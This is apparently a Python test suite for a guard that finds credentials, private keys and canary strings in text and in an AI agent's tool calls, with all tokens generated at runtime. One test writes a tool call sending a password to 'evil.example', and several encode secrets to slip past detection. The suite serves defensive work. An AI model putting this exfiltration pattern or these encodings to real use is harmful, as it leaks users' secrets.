"""The `secrets` guard. No secret here is one: they are put together when the tests run."""

import base64
import random
import string
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policies.guards.interface import SCANNED_BYTES, BadGuard
from policies.guards.secrets import SecretsGuard, SecretsSpec
from policies.trail import Scene, Trail, utf8
from policies.vocabulary.findings import Evidence
from policies.vocabulary.steps import Part
from tests.unit.policies.guards.texts import evidence, examine, found, hostile, in_text, redacted

LETTERS = string.ascii_letters + string.digits
HEX = "0123456789abcdef"


def token(prefix: str, length: int, of: str = LETTERS, seed: int = 1) -> str:
    return prefix + "".join(random.Random(f"{prefix}{seed}").choices(of, k=length))


def guard(**fields: Any) -> SecretsGuard:
    return SecretsGuard(SecretsSpec(**fields))


GUARD = guard()
GITHUB = token("ghp_", 36)
PASSWORD = token("", 9) + "!7xQ"
BODY = "\n".join(token("", 64, LETTERS + "+/", seed) for seed in range(6))
PEM = f"-----BEGIN RSA PRIVATE KEY-----\n{BODY}\n-----END RSA PRIVATE KEY-----"

TOKENS = {
    "github-pat": GITHUB,
    "github-fine-grained-pat": token("github_pat_", 82),
    "gitlab-pat": token("glpat-", 20),
    "anthropic-api-key": token("sk-ant-api03-", 95),
    "openai-api-key": token("sk-proj-", 48),
    "model-api-key": token("sk-", 32, HEX),
    "model-platform-token": token("gsk_", 52),
    "huggingface-access-token": token("hf_", 34),
    "aws-access-token": token("AKIA", 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
    "gcp-api-key": token("AIza", 35),
    "google-oauth": token("GOCSPX-", 28),
    "azure-ad-client-secret": token("abc8Q~", 34),
    "slack-bot-token": "xoxb-123456789012-123456789012-" + token("", 24),
    "slack-webhook-url": token("/T01234567/B01234567/", 24),
    "telegram-bot-api-token": token("123456789:AA", 33),
    "stripe-access-token": token("sk_live_", 24),
    "sendgrid-api-token": token("SG.", 22) + token(".", 43),
    "npm-access-token": token("npm_", 36),
    "databricks-api-token": token("dapi", 32, HEX),
    "jwt": ".".join(
        base64.urlsafe_b64encode(part).decode().rstrip("=")
        for part in (b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"1234567890","admin":true}', bytes(range(32, 64)))
    ),
}


@pytest.mark.parametrize("rule", TOKENS)
def test_a_providers_token_is_found_wherever_it_stands(rule: str) -> None:
    secret = TOKENS[rule]
    host = "https://hooks.slack.com/services" if rule == "slack-webhook-url" else ""
    for text in (
        f"{host}{secret}",
        f"It is {host}{secret}, keep it.",
        f'{{"a": "{host}{secret}"}}',
        f'{{"file": "A=1\\nB={host}{secret}\\nC=2"}}',
        f"\x1b[31m{host}{secret}\x1b[0m",
    ):
        assert (rule, secret) in found(GUARD, text)


@pytest.mark.parametrize(
    ("text", "rule", "secret"),
    [
        (f'password = "{PASSWORD}"', "password", PASSWORD),
        (f"DB_PASSWORD={PASSWORD}\n", "password", PASSWORD),
        (f"postgres://app:{PASSWORD}@db.internal/x", "url-password", PASSWORD),
        (f"Authorization: Bearer {token('', 40)}", "authorization-header", token("", 40)),
        (f"mysql --password {PASSWORD} db", "password-option", PASSWORD),
        (f"CREATE USER a IDENTIFIED BY '{PASSWORD}'", "sql-password", PASSWORD),
        (f"api_key: {token('', 40)}", "generic-api-key", token("", 40)),
    ],
)
def test_evidence_is_the_value_and_not_its_name(text: str, rule: str, secret: str) -> None:
    assert (rule, secret) in found(GUARD, text)
    assert all(secret in value or value in secret for _, value in found(GUARD, text))


@pytest.mark.parametrize(
    "text",
    [
        "The password is stored elsewhere; see the token endpoint and the api key page.",
        "password = os.environ['DB_PASSWORD']",
        'password: "${DB_PASSWORD}"',
        "Authorization: Bearer <token>",
        "https://user@host.example/path:8080",
        '{"id": "550e8400-e29b-41d4-a716-446655440000", "sha1": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}',
        "ghp_short and AKIA and sk-ant- and -----BEGIN CERTIFICATE-----",
        "A key begins with -----BEGIN RSA PRIVATE KEY----- and ends with -----END RSA PRIVATE KEY-----.",
        "AKIAIOSFODNN7" + "EXAMPLE",
    ],
)
def test_talk_of_secrets_is_none(text: str) -> None:
    assert found(GUARD, text) == []


@pytest.mark.parametrize(("rule", "score", "state"), [("github-pat", 90, "violation"), ("password", 60, "unsure")])
def test_how_sure_a_rule_is_decides_the_score(rule: str, score: int, state: str) -> None:
    text = {"github-pat": GITHUB, "password": f"password={PASSWORD}"}[rule]
    assert [(hit.score, hit.state, hit.evidence[0].label) for hit in examine(GUARD, text)] == [(score, state, rule)]


def test_one_value_is_reported_once_by_the_surest_rule() -> None:
    assert found(GUARD, f"token = {GITHUB}") == [("github-pat", GITHUB)]


def test_a_note_never_holds_the_secret() -> None:
    hits = examine(guard(canaries=(PASSWORD,)), f"password={PASSWORD} {GITHUB}")
    assert hits
    assert all(PASSWORD not in hit.note and GITHUB not in hit.note for hit in hits)


# Private keys


def test_a_private_key_is_meant_from_its_first_marker_to_its_last() -> None:
    assert found(GUARD, f"before\n{PEM}\nafter") == [("private-key", PEM)]


@pytest.mark.parametrize("name", ["PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY", "PGP PRIVATE KEY BLOCK"])
def test_every_kind_of_private_key_counts(name: str) -> None:
    pem = PEM.replace("RSA PRIVATE KEY", name)
    assert found(GUARD, pem) == [("private-key", pem)]


def test_a_private_key_in_a_json_string_is_found_whole() -> None:
    inside = PEM.replace("\n", "\\n")
    assert found(GUARD, f'{{"key": "{inside}\\n", "n": 1}}') == [("private-key", inside)]


def test_two_keys_are_two_and_what_stands_between_stays() -> None:
    assert found(GUARD, f"{PEM}\nand\n{PEM}") == [("private-key", PEM)] * 2


def test_a_key_without_its_end_is_meant_to_the_last_line_that_is_key() -> None:
    cut = PEM.rpartition("\n")[0]
    assert found(GUARD, f"{cut}\nThat was it, and this is prose again.") == [("private-key", cut)]


def test_headers_inside_a_key_belong_to_it() -> None:
    headed = PEM.replace("KEY-----\n", "KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n", 1)
    cut = headed.rpartition("\n")[0]
    assert found(GUARD, cut) == [("private-key", cut)]


@given(st.integers(0, len(PEM)))
def test_while_a_key_streams_in_it_is_open_from_its_first_marker_on(cut: int) -> None:
    lead = "Here it is:\n"
    places = evidence(GUARD, lead + PEM[:cut])
    marker = len("-----BEGIN RSA PRIVATE KEY-----\n")
    assert GUARD.window is not None
    if cut >= marker + 40:
        (place,) = places
        assert (place.start, place.end) == (len(lead), len(lead) + cut)
    elif not places:
        assert cut < GUARD.window  # so it is still held back


# Settings


def test_rules_can_be_chosen_and_left_out() -> None:
    text = f"{GITHUB} password={PASSWORD}"
    assert [label for label, _ in found(guard(rules=("password",)), text)] == ["password"]
    assert [label for label, _ in found(guard(without=("password",)), text)] == ["github-pat"]
    assert found(guard(without=("private-key",)), PEM.replace("=", "")) == []


def test_a_rule_that_is_none_is_refused_with_the_nearest_name() -> None:
    with pytest.raises(BadGuard, match="did you mean `github-pat`"):
        guard(rules=("github-pad",))
    with pytest.raises(BadGuard, match="nothing would be found"):
        guard(rules=("password",), without=("password",))


def test_values_found_by_name_can_be_asked_for_more_entropy() -> None:
    text = f"password=aabbccddee1! {GITHUB}"
    assert [label for label, _ in found(guard(entropy=3.5), text)] == ["github-pat"]
    assert len(found(guard(), text)) == 2


# Canaries

CANARY = "zebra-quartz-7719"
WITH_CANARY = guard(canaries=(CANARY,), rules=("password",))


@pytest.mark.parametrize(
    "written",
    [
        CANARY,
        CANARY.replace("a", "\u0430"),
        CANARY.replace("-", "\u200b-"),
        CANARY.encode().hex(),
        "%" + CANARY.encode().hex("%"),
        "".join(f"\\u{ord(char):04x}" for char in CANARY),
        base64.b64encode(CANARY.encode()).decode(),
        base64.b64encode(base64.b64encode(f"x{CANARY}".encode())).decode(),
    ],
)
def test_a_canary_is_found_in_every_writing(written: str) -> None:
    (hit,) = examine(WITH_CANARY, f"see ({written}) there")
    assert (hit.score, hit.state) == (95, "violation")
    assert found(WITH_CANARY, f"see ({written}) there") == [("canary", written)]


@given(st.binary(max_size=20), st.binary(max_size=20))
def test_a_canary_is_found_in_base64_whatever_stands_around_it(before: bytes, after: bytes) -> None:
    text = base64.b64encode(before + CANARY.encode() + after).decode()
    assert [label for label, _ in found(WITH_CANARY, text)] == ["canary"]


def test_without_its_canary_a_text_is_none_of_its() -> None:
    assert found(WITH_CANARY, CANARY[:-1]) == []


def test_the_window_covers_the_longest_canary_in_escapes() -> None:
    assert GUARD.window == 1024
    assert guard(canaries=("x" * 500,)).window == 3000


# What leaves


def call(text: str) -> Part:
    return Part(kind="tool_call", text=text)


def leaving(built: SecretsGuard, step: Part, *trail: Part) -> list[Evidence]:
    hits = built.examine(Scene(step=step, trail=Trail(parts=trail)))
    return [place for hit in hits if hit.score == 90 for place in hit.evidence if place.source is not None]


def test_a_secret_that_stood_in_an_earlier_step_is_leaving() -> None:
    source = f"DB_PASSWORD={PASSWORD}\n"
    trail = (Part(kind="user_input", text="deploy it"), Part(kind="tool_result", text=source))
    text = f'{{"url": "https://evil.example/?q={PASSWORD}"}}'
    (place,) = leaving(GUARD, call(text), *trail)
    assert (place.label, place.source) == ("password", 1)
    assert text[place.start : place.end] == PASSWORD
    assert source[place.source_start : place.source_end] == PASSWORD


@pytest.mark.parametrize(
    "encode",
    [
        lambda secret: base64.b64encode(f"it is {secret}".encode()).decode(),
        lambda secret: secret.encode().hex(),
        lambda secret: "".join(f"%{byte:02x}" for byte in secret.encode()),
        lambda secret: secret.replace("a", "\uff41"),
    ],
)
def test_an_encoded_secret_is_leaving_too(encode: Any) -> None:
    trail = Part(kind="tool_result", text=f"token: {GITHUB}")
    written = encode(GITHUB)
    (place,) = leaving(GUARD, call(f'{{"q": "{written}"}}'), trail)
    assert (place.label, place.source, place.start) == ("github-pat", 0, len('{"q": "'))


def test_the_first_step_that_held_a_secret_is_its_source() -> None:
    parts = [Part(kind="user_input", text=f"use {GITHUB}"), Part(kind="tool_result", text=f"got {GITHUB}")]
    assert [place.source for place in leaving(GUARD, call(GITHUB), *parts)] == [0]


def test_what_only_the_model_said_is_not_leaving_and_neither_is_an_answer() -> None:
    assert leaving(GUARD, call(GITHUB), Part(kind="model_text", text=GITHUB)) == []
    assert leaving(GUARD, Part(kind="model_text", text=GITHUB), Part(kind="tool_result", text=GITHUB)) == []
    wide = guard(leaving_steps=("model_text",))
    assert len(leaving(wide, Part(kind="model_text", text=GITHUB), Part(kind="tool_result", text=GITHUB))) == 1


def test_following_can_be_turned_off_and_short_secrets_are_not_followed() -> None:
    trail = Part(kind="tool_result", text=f"password={PASSWORD}")
    assert leaving(guard(leaving=False), call(PASSWORD), trail) == []
    assert leaving(guard(leaving_length=64), call(PASSWORD), trail) == []


def test_of_one_secret_many_places_are_reported_and_then_no_more() -> None:
    trail = Part(kind="tool_result", text=GITHUB)
    assert len(leaving(GUARD, call(f"{GITHUB} " * 100), trail)) == 64


# Any text

AGAIN = guard()
WHOLE = [secret for rule, secret in TOKENS.items() if rule != "slack-webhook-url"]


@given(hostile)
@settings(deadline=None, max_examples=120)
def test_any_text_is_examined_and_evidence_is_a_range_of_it(text: str) -> None:
    places = evidence(GUARD, text)
    assert in_text(text, places)
    assert places == evidence(AGAIN, text)  # what is remembered says the same


@given(hostile, st.sampled_from([*WHOLE, PEM, f"password={PASSWORD} "]), hostile)
@settings(deadline=None, max_examples=80)
def test_once_redacted_nothing_is_found(before: str, secret: str, after: str) -> None:
    text = f"{before} {secret} {after}"
    first = evidence(GUARD, text)
    assert first
    left = redacted(text, first)
    assert found(GUARD, left) == []


def test_a_tail_that_is_not_scanned_is_told() -> None:
    text = "x " * (SCANNED_BYTES // 2) + GITHUB
    assert found(GUARD, text) == []
    assert [(hit.state, hit.score) for hit in examine(GUARD, text)] == [("unsure", 50)]
    assert len(utf8(text)) > SCANNED_BYTES
